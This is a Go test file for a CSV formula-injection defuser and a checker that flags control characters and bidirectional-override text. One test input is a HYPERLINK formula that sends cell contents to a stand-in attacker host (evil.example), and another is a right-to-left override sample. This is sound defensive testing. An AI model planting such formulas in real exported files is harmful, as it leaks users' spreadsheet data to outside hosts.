package corpus

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestDefuseCSV holds DefuseCSV to the rule the papers page's own CSV
// export (search.js's csvCell) applies: a cell starting with =, +, -, @,
// tab or CR gets a leading apostrophe, inside its quotes when quoted, and
// nothing else of the file changes.
func TestDefuseCSV(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"clean", "a,b\r\nc,d\n", "a,b\r\nc,d\n"},
		{"unquoted", "key,title\nk,=1+2\n", "key,title\nk,'=1+2\n"},
		{"quoted", "key,title\nk,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"\n",
			"key,title\nk,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"\n"},
		{"every lead", "+a,-b,@c,\"\td\",e-f\n", "'+a,'-b,'@c,\"'\td\",e-f\n"},
		{"bom and multiline", "\uFEFFkey,t\nk,\"x\ny\"\nl,@z\n", "\uFEFFkey,t\nk,\"x\ny\"\nl,'@z\n"},
		{"already defused", "k,'=1\n", "k,'=1\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := DefuseCSV([]byte(tc.in))
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
	if _, err := DefuseCSV([]byte("a,\"=b\n")); err == nil {
		t.Error("an unterminated quote: no error")
	}
}

// FuzzDefuseCSV requires the defused file to hold the same records with
// DefuseFormula applied to every cell, and defusing twice to change
// nothing more.
func FuzzDefuseCSV(f *testing.F) {
	for _, s := range []string{"a,b\n", "k,=1\n", "\"-x\",\"y\"\"\"\r\n@z\n", "\uFEFF+1\n", "a,\"\r=\"\n"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		want, err := readAllCSV(src)
		if err != nil {
			return
		}
		out, err := DefuseCSV(src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		got, err := readAllCSV(out)
		if err != nil {
			t.Fatalf("defused %q does not parse: %v", out, err)
		}
		for _, rec := range want {
			for i := range rec {
				rec[i] = DefuseFormula(rec[i])
			}
		}
		if !slices.EqualFunc(got, want, slices.Equal) {
			t.Fatalf("%q: defused records %q, want %q", src, got, want)
		}
		if again, _ := DefuseCSV(out); !bytes.Equal(again, out) {
			t.Fatalf("%q: defusing twice changed %q to %q", src, out, again)
		}
	})
}

func readAllCSV(b []byte) ([][]string, error) {
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	return r.ReadAll()
}

// TestTextProblems covers each kind textProblems reports, and what passes.
func TestTextProblems(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string // what of each problem, in order
	}{
		{"Plain title, with\ttab and\nnewline", nil},
		{"Ünïcode — “quotes” ©", nil},
		{"balanced \u202Bembedding\u202C and \u2067isolate\u2069, marks \u200E\u200F", nil},
		{"nul\x00", []string{"control character U+0000 (NUL)"}},
		{"esc\x1b[31m and bel\x07", []string{"control character U+001B (ESC)"}},
		{"del\x7f", []string{"control character U+007F (DEL)"}},
		{"c1\u0085", []string{"control character U+0085 (C1)"}},
		{"latin1 \xe9", []string{"invalid UTF-8"}},
		{"Title \u202E2025 NeurIPS", []string{"U+202E RIGHT-TO-LEFT OVERRIDE"}},
		{"\u2068open isolate", []string{"U+2068 FIRST STRONG ISOLATE"}},
		{"stray \u202C", []string{"U+202C POP DIRECTIONAL FORMATTING"}},
		{"crossed \u2067a\u202C", []string{"U+202C POP DIRECTIONAL FORMATTING", "U+2067 RIGHT-TO-LEFT ISOLATE"}},
	} {
		var got []string
		for _, p := range textProblems(tc.in) {
			got = append(got, p.what)
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%q: got %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestReadErrorsRefuseCounts requires StreamStats and ReadErrors to refuse
// a papers.csv that does not read, with the error's position, rather than
// count what was left of it: an unbalanced quote swallows the rows after
// it, an empty file reads as no entries.
func TestReadErrorsRefuseCounts(t *testing.T) {
	base, err := os.ReadFile("testdata/base/papers.csv")
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, papers, want string }{
		{"unbalanced quote", strings.Replace(string(base), `"Beta Bench`, `"Beta Bench"`, 1), "papers.csv:3:"},
		{"empty", "", "papers.csv:1:1: error: empty file"},
		{"CR-only", strings.ReplaceAll(string(base), "\n", "\r"), "papers.csv:1:1: error: the file uses CR-only line ends"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, PapersFile), []byte(tc.papers), 0o644); err != nil {
				t.Fatal(err)
			}
			_, err := StreamStats(dir, mustVocabulary(t), StatsOptions{})
			var ce *CheckError
			if !errors.As(err, &ce) || !strings.Contains(ce.Diagnostics[0].String(), tc.want) {
				t.Errorf("StreamStats: %v, want a CheckError at %s", err, tc.want)
			}
			c, err := LoadPapersFile(filepath.Join(dir, PapersFile))
			if err != nil {
				t.Fatal(err)
			}
			if ds := c.ReadErrors(); len(ds) == 0 || !strings.Contains(ds[0].String(), tc.want) {
				t.Errorf("ReadErrors: %v, want an error at %s", ds, tc.want)
			}
		})
	}
}
